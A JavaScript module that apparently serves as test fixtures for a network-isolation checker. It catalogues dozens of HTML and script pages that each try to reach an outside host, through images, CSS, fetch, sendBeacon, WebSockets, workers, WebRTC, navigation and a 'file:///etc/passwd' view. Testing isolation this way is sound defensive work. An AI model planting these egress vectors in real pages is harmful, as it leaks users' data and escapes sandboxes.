/**
 * Pages that try to reach a host from within, each in one way. `@` represents the host and port, which differ for each
 * page. A page is the content of a body, and `files` are next to it.
 * @typedef {{ body: string, head?: string, files?: Readonly<Record<string, string>>, alone?: boolean }} Attack `alone`:
 * true if it needs a separate page, because it changes or leaves the page
 */

const inScript = (/** @type {string} */ code) => `<script>${code}</script>`;
const inWorker = (/** @type {string} */ code) =>
  inScript(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`);

/** Requests by markup. @type {Readonly<Record<string, Attack>>} */
const MARKUP = {
  image: { body: '<img src="http://@/img">' },
  'image with srcset': { body: '<img srcset="http://@/1x 1x, http://@/2x 2x">' },
  'picture source': { body: '<picture><source srcset="http://@/source"><img></picture>' },
  'image button': { body: '<input type=image src="http://@/button">' },
  'attribution source': { body: '<img src="data:," attributionsrc="https://@/attribution">' },
  'background attribute': { body: '<table background="http://@/background"><tr><td>a</table>' },
  'style sheet': { body: '<link rel=stylesheet href="http://@/style">' },
  'imported style': { body: '<style>@import "http://@/import";</style>' },
  'background in a style': { body: '<p style="background: url(http://@/background)">a' },
  'mask, cursor, content in a style': {
    body:
      '<style>b::before { content: url(http://@/content) } b { mask: url(http://@/mask#m); cursor: ' +
      'url(http://@/cursor), auto }</style><b>b</b>',
  },
  'web font': {
    body: '<style>@font-face { font-family: f; src: url(http://@/font) }</style><p style="font-family: f">a',
  },
  script: { body: '<script src="http://@/script"></script>' },
  module: { body: '<script type=module src="http://@/module"></script>' },
  'import map': {
    body:
      '<script type=importmap>{ "imports": { "far": "http://@/mapped" } }</script><script type=module>import ' +
      '"far"</script>',
  },
  frame: { body: '<iframe src="http://@/frame"></iframe>' },
  'frame with a document in it': { body: '<iframe srcdoc="<img src=http://@/inner>"></iframe>' },
  'sandboxed frame': {
    body:
      `<iframe sandbox="allow-scripts allow-popups" srcdoc="<script>fetch('http://@/f'); open('http://@/o'); new ` +
      `WebSocket('ws://@/w')</script>"></iframe>`,
  },
  'data frame': {
    body: `<iframe src="data:text/html,<script>fetch('http://@/f'); new WebSocket('ws://@/w')</script>"></iframe>`,
  },
  'fenced frame': { body: '<fencedframe></fencedframe><iframe src="http://@/fenced" credentialless></iframe>' },
  object: { body: '<object data="http://@/object"></object>' },
  embed: { body: '<embed src="http://@/embed">' },
  'video with captions': {
    body: '<video autoplay src="http://@/video" poster="http://@/poster"><track default src="http://@/track"></video>',
  },
  audio: { body: '<audio autoplay src="http://@/audio"></audio>' },
  'favicon and manifest': { body: '<link rel=icon href="http://@/icon"><link rel=manifest href="http://@/manifest">' },
  prefetch: { body: '<link rel=prefetch href="http://@/prefetch">' },
  preload: { body: '<link rel=preload as=image href="http://@/preload">' },
  'module preload': { body: '<link rel=modulepreload href="http://@/modulepreload">' },
  preconnect: { body: '<link rel=preconnect href="http://@"><link rel=preconnect href="https://@">' },
  'DNS prefetch': { body: '<link rel=dns-prefetch href="http://@">' },
  prerender: { body: '<link rel=prerender href="http://@/prerender">' },
  'compression dictionary': { body: '<link rel=compression-dictionary href="http://@/dictionary">' },
  'speculation rules, prefetch': {
    body:
      '<script type=speculationrules>{ "prefetch": [{ "urls": ["http://@/p"], "eagerness": "immediate" }] }' +
      '</script>',
  },
  'speculation rules, prerender': {
    body:
      '<script type=speculationrules>{ "prerender": [{ "urls": ["http://@/p", "other.html"], "eagerness": ' +
      '"immediate" }] }</script>',
  },
  'SVG use and image': {
    body:
      '<svg><use href="http://@/use#a"/><image href="http://@/image" width=9 height=9 /><filter id=f><feImage ' +
      'href="http://@/fe"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  },
  'base address': { body: '<base href="http://@/"><img src=based>', alone: true },
  'framed XSLT': {
    body: '<iframe src=page.xml></iframe>',
    files: {
      'page.xml':
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://@/style.xsl"?><!DOCTYPE a SYSTEM ' +
        '"http://@/a.dtd"><a/>',
    },
  },
};

/** Requests by scripts. @type {Readonly<Record<string, Attack>>} */
const SCRIPTED = {
  fetch: { body: inScript('fetch("http://@/fetch", { mode: "no-cors" })') },
  'fetch that outlives its page': { body: inScript('fetch("http://@/kept", { mode: "no-cors", keepalive: true })') },
  XMLHttpRequest: { body: inScript('var x = new XMLHttpRequest; x.open("GET", "http://@/xhr"); x.send()') },
  beacon: { body: inScript('navigator.sendBeacon("http://@/beacon", "secret")') },
  'beacon at the end': { body: inScript('addEventListener("pagehide", () => navigator.sendBeacon("http://@/end"))') },
  EventSource: { body: inScript('new EventSource("http://@/events")') },
  'import()': { body: inScript('import("http://@/imported")') },
  'window.open': { body: inScript('open("http://@/opened"); open("http://@/named", "w", "noopener")') },
  'click on a new window': { body: `<a id=a target=_blank href="http://@/blank">a</a>${inScript('a.click()')}` },
  'click with a ping': { body: `<a id=p ping="http://@/ping" href="#x">a</a>${inScript('p.click()')}` },
  'form into a new window': {
    body:
      `<form id=f method=post target=_blank action="http://@/form"><input name=a value=b></form>` +
      `${inScript('f.submit()')}`,
  },
  'form into a frame': {
    body:
      `<iframe name=t></iframe><form id=g method=post target=t action="http://@/form"><input name=a></form>` +
      `${inScript('g.submit()')}`,
  },
  'new window that is blank and written to': {
    body: inScript(
      'var w = open("about:blank"); if (w) { w.document.write("<img src=http://@/w>"); w.location = "http://@/l" }',
    ),
  },
  WebSocket: { body: inScript('new WebSocket("ws://@/socket")') },
  'WebSocket of a frame': {
    body: `<iframe id=i></iframe>${inScript('new i.contentWindow.WebSocket("ws://@/socket")')}`,
  },
  WebSocketStream: { body: inScript('globalThis.WebSocketStream && new WebSocketStream("ws://@/stream")') },
  'fetch in a worker': { body: inWorker('fetch("http://@/worker", { mode: "no-cors" })') },
  'WebSocket in a worker': { body: inWorker('new WebSocket("ws://@/worker")') },
  'scripts in a worker': { body: inWorker('importScripts("http://@/imported")') },
  'WebTransport in a worker': { body: inWorker('new WebTransport("https://@/")') },
  'worker of another host': { body: inScript('try { new Worker("http://@/worker") } catch {}') },
  'shared worker': {
    body: inScript('new SharedWorker("shared.js")'),
    files: { 'shared.js': 'fetch("http://@/shared", { mode: "no-cors" }); new WebSocket("ws://@/shared")' },
  },
  'shared worker of a blob': {
    body: inScript(
      'new SharedWorker(URL.createObjectURL(new Blob([\'fetch("http://@/s", { mode: "no-cors" }); new ' +
        'WebSocket("ws://@/w")\'])))',
    ),
  },
  'service worker': {
    body: inScript('Navigator.prototype.__proto__; navigator.serviceWorker.register("sw.js").catch(() => {})'),
    files: { 'sw.js': 'fetch("http://@/service"); importScripts("http://@/imported")' },
  },
  'service worker of a frame': {
    body:
      `<iframe id=j src=other.html></iframe>` +
      `${inScript(
        'ServiceWorkerContainer.prototype.register.call(j.contentWindow.navigator.serviceWorker, ' +
          '"sw.js").catch(() => {})',
      )}`,
    files: { 'sw.js': 'fetch("http://@/service")', 'other.html': 'other' },
  },
  worklets: {
    body: inScript(
      'CSS.paintWorklet?.addModule("http://@/paint"); new AudioContext().audioWorklet?.addModule("http://@/audio")',
    ),
  },
  'WebRTC, STUN': {
    body: inScript(
      'var c = new RTCPeerConnection({ iceServers: [{ urls: "stun:@" }] }); c.createDataChannel("a"); ' +
        'c.createOffer().then((o) => c.setLocalDescription(o))',
    ),
  },
  'WebRTC, TURN over TCP and TLS': {
    body: inScript(
      'var d = new RTCPeerConnection({ iceServers: [{ urls: ["turn:@?transport=tcp", "turn:@?transport=udp", ' +
        '"turns:@?transport=tcp"], username: "a", credential: "b" }] }); d.createDataChannel("a"); ' +
        'd.createOffer().then((o) => d.setLocalDescription(o))',
    ),
  },
  'WebRTC, a candidate of its own': {
    body: inScript(
      'var e = new RTCPeerConnection, g2 = new RTCPeerConnection; e.createDataChannel("a"); e.onicecandidate = ' +
        '() => {}; (async () => { await e.setLocalDescription(await e.createOffer()); await ' +
        'g2.setRemoteDescription(e.localDescription); await g2.setLocalDescription(await g2.createAnswer()); ' +
        'await e.setRemoteDescription(g2.localDescription); var [h, p] = "@".replace(/[[\\]]/g, ' +
        '"").split(/:(?=\\d+$)/); for (var proto of ["udp", "tcp"]) await e.addIceCandidate({ candidate: ' +
        '["candidate:1 1", proto, 1, h, p, "typ host"].join(" "), sdpMid: "0" }) })()',
    ),
  },
  WebTransport: { body: inScript('globalThis.WebTransport && new WebTransport("https://@/transport")') },
  'payment manifest': {
    body: inScript(
      'globalThis.PaymentRequest && new PaymentRequest([{ supportedMethods: "https://@/pay" }], { total: { ' +
        'label: "a", amount: { currency: "USD", value: "1" } } }).canMakePayment().catch(() => {})',
    ),
  },
  'identity provider': {
    body: inScript(
      'navigator.credentials?.get({ identity: { providers: [{ configURL: "https://@/fed.json", clientId: "1" }' +
        '] } }).catch(() => {})',
    ),
  },
  'security policy with a report': {
    head: '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri http://@/csp">',
    body: '<img src="data:image/gif;base64,AAAA"><img src="x.gif">',
    alone: true,
  },
};

/** Requests by navigation. @type {Readonly<Record<string, Attack>>} */
const LEAVING = {
  'meta refresh': { head: '<meta http-equiv=refresh content="0; url=http://@/refresh">', body: 'a', alone: true },
  'location by script': { body: inScript('location.href = "http://@/location"'), alone: true },
  'location of the top from a frame': {
    body: `<iframe srcdoc="<script>top.location = 'http://@/top'</script>"></iframe>`,
    alone: true,
  },
  'form that sends itself': {
    body: `<form id=f method=post action="http://@/form"><input name=a value=b></form>${inScript('f.submit()')}`,
    alone: true,
  },
  'click on a link': { body: `<a id=a href="http://@/link">a</a>${inScript('a.click()')}`, alone: true },
  'history and location again and again': {
    body: inScript(
      'setInterval(() => { history.pushState(1, "", "#" + Math.random()); location = "http://@/again" }, 9)',
    ),
    alone: true,
  },
  'view of a file': { body: inScript('location = "file:///etc/passwd"; open("file:///etc/passwd")'), alone: true },
  'address of another scheme': { body: inScript('location = "ftp://@/file"; open("mailto:a@b.c")'), alone: true },
};

export const ATTACKS = Object.freeze({ ...MARKUP, ...SCRIPTED, ...LEAVING });

/**
 * Returns the files of one attack, aimed at a host.
 * @param {Attack} attack
 * @param {string} host name or address, and port
 * @returns {Record<string, string>}
 */
export function aim({ head = '', body, files = {} }, host) {
  const page =
    `<!doctype html><html lang=en><head><meta charset=utf-8><title>a page</title>${head}</head><body><p>words</p>` +
    `${body}</body></html>`;
  const texts = Object.entries({ 'index.html': page, ...files });
  return Object.fromEntries(texts.map(([name, text]) => [name, text.replace(/@(?=["/?])/g, host)]));
}

/**
 * Combines all attacks that can share a page, each aimed at its own host.
 * @param {(index: number) => string} hostOf
 * @returns {Record<string, string>}
 */
export function aimTogether(hostOf) {
  const sharing = Object.values(ATTACKS).filter(({ alone }) => !alone);
  const aimed = sharing.map((attack, index) => aim(attack, hostOf(index)));
  const bodies = aimed.map((files) => /<body>([\s\S]*)<\/body>/.exec(files['index.html'])?.[1] ?? '');
  return { ...Object.assign({}, ...aimed), 'index.html': `<!doctype html><title>a page</title>${bodies.join('\n')}` };
}
